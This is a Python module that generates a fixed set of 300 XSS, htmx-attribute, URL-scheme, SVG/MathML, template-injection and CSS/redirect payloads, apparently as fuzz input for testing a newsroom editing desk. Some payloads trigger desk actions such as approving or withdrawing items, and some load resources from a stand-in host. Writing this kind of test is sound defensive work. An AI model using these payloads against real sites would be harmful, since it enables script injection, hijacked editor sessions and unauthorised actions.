"""Hostile words of our own: what somebody may write into a press item so that an editor's browser runs it."""

import random
from html import escape

COUNT = 300
CALLS = ("alert(1)", "console.log('executed')", "confirm`1`", "top.executed=1", "eval('alert(1)')")
HANDLERS = (
    "onload",
    "onerror",
    "onfocus",
    "onmouseover",
    "onclick",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "onbeforetoggle",
    "oncontentvisibilityautostatechange",
)
TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "details open",
    "input autofocus",
    "iframe srcdoc=x",
    "marquee",
    "select autofocus",
    "audio src=x",
    "div contenteditable tabindex=0 autofocus",
    "object data=x",
    "p popover",
)
MOVES = ("approve", "reject", "hold", "undo", "tags", "text", "withdraw", "note", "draft")
ADDRESS = "/p/probe/item/{item}/{move}"
"""A move of the desk's own, which a payload would make."""
TRIGGERS = ("load", "revealed", "intersect once", "every 1s", "mouseover from:body", "load delay:1ms")
HTMX = (
    '<b hx-post="{address}" hx-trigger="{trigger}" hx-vals=\'{{"version": 0, "reason": "x"}}\'>x</b>',
    '<b data-hx-get="{address}" data-hx-trigger="{trigger}">x</b>',
    '<div hx-get="//boese.example/x" hx-trigger="{trigger}" hx-swap="outerHTML">x</div>',
    '<i hx-on:load="{call}" hx-on::after-settle="{call}" hx-trigger="{trigger}">x</i>',
    '<form hx-put="{address}" hx-trigger="{trigger}"><input name=version value=0></form>',
    '<p hx-vals=\'js:{{x: {call}}}\' hx-get="{address}" hx-trigger="{trigger}">x</p>',
    '<p hx-boost=true><a href="{address}" autofocus>x</a></p><meta name=htmx-config content=\'{{"allowEval":true}}\'>',
    '<div hx-ext="x" hx-ws="connect:/x" hx-sse="connect:/x" hx-request=\'{{"credentials":true}}\'>x</div>',
    '" hx-post="{address}" hx-trigger="{trigger}" x="',
    "' hx-get='{address}' hx-trigger='{trigger}' autofocus onfocus='{call}",
)
LINKS = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "java\tscript:{call}",
    " javascript:{call}",
    "javascript&colon;{call}",
    "data:text/html,<script>{call}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:{call}",
    "//boese.example/x",
    'https://boese.example/"onmouseover="{call}',
    "blob:x",
    "\\\\boese.example\\x",
    "https:javascript:{call}",
    "http://127.0.0.1:1/\n{call}",
    "view-source:javascript:{call}",
)
DEEP = (
    "<svg><a xlink:href='javascript:{call}'><text>x</text></a></svg>",
    "<svg><animate onbegin={call} attributeName=x>",
    "<svg><set attributeName=href to='javascript:{call}'/>",
    "<svg><foreignObject><script>{call}</script></foreignObject>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror={call}>",
    "<math href='javascript:{call}'>x</math>",
    "<svg><style>{{}}</style><script>{call}</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={call}>#x'/>",
    "<template shadowrootmode=open><script>{call}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
)
TEMPLATES = (
    "{{{{7*7}}}}",
    "{{{{ visit.store }}}}",
    "{{% for x in visit.heard() %}}{{{{x}}}}{{% endfor %}}",
    "${{{call}}}",
    "{{{{''.__class__.__mro__}}}}",
    "#{{{call}}}",
    "<%= {call} %>",
    "%(x)s {{0}} {{n}} {{reason}}",
    "1|2 items|{{n}}",
)
STYLES = (
    "<style>*{{background:url(//boese.example/s)}}</style>",
    "<link rel=stylesheet href=//boese.example/s.css>",
    "<p style='position:fixed;inset:0;background:url(//boese.example/p)'>x",
    "<base href=//boese.example/>",
    "<meta http-equiv=refresh content='0;url=//boese.example'>",
    "<img src=//boese.example/p.gif srcset=//boese.example/q>",
    "<dialog open><form action='{address}' method=post><button>x</button></form></dialog>",
)
BREAKS = (
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "</option></select>",
    "-->",
    "]]>",
    "</abbr></mark>",
    "`>",
    "=",
)
SIGNS = ("\u202e", "\u2066", "\u200b", "\ufeff", "\x0b", "\x1b[2J", "\r\n", "\u2028", "A\u0300" * 40, "\x7f", "\ufffe")


def payloads(count: int = COUNT) -> tuple[str, ...]:
    """The same ones each time, all different, all kinds mixed."""
    drawn, found = random.Random(20261123), dict[str, None]()
    number = 0
    while len(found) < count:
        found[_one(drawn, number)] = None
        number += 1
    return tuple(found)


def _one(drawn: random.Random, number: int) -> str:
    call = drawn.choice(CALLS)
    fields = {
        "call": call,
        "trigger": drawn.choice(TRIGGERS),
        "address": ADDRESS.format(item="{item}", move=drawn.choice(MOVES)),
    }
    kinds = (_handler, _script, HTMX, LINKS, DEEP, TEMPLATES, STYLES, _linked)
    kind = kinds[number % len(kinds)]
    text = kind(drawn, call) if callable(kind) else drawn.choice(kind).format(**fields)
    return _dressed(drawn, text)


def _handler(drawn: random.Random, call: str) -> str:
    gap = drawn.choice((" ", "/", "\n", "\t", "\x0c"))
    quote = drawn.choice(("", '"', "'"))
    return f"<{drawn.choice(TAGS)}{gap}{drawn.choice(HANDLERS)}={quote}{call}{quote}>"


def _script(drawn: random.Random, call: str) -> str:
    opening = drawn.choice(
        ("<script>", "<ScRiPt >", "<script/x>", "<script\n>", "<scr<script>ipt>", "<script type=module>")
    )
    return f"{opening}{call}</script{drawn.choice(('>', ' >', ''))}"


def _linked(drawn: random.Random, call: str) -> str:
    tag = drawn.choice(
        (
            '<a href="{}" autofocus>x</a>',
            "<iframe src='{}'></iframe>",
            '<form action="{}"><input type=submit></form>',
            '<button formaction="{}">x</button>',
            "<embed src='{}'>",
            "<object data='{}'></object>",
        )
    )
    return tag.format(drawn.choice(LINKS).format(call=call))


def _dressed(drawn: random.Random, text: str) -> str:
    """With what may break out of where it stands, signs between, or written as references."""
    which = drawn.random()
    if which < 0.35:
        return drawn.choice(BREAKS) + text
    if which < 0.45:
        return drawn.choice(SIGNS) + text + drawn.choice(SIGNS)
    if which < 0.52:
        return escape(text)
    if which < 0.57:
        return "".join(f"&#{ord(letter)};" for letter in text)
    return text
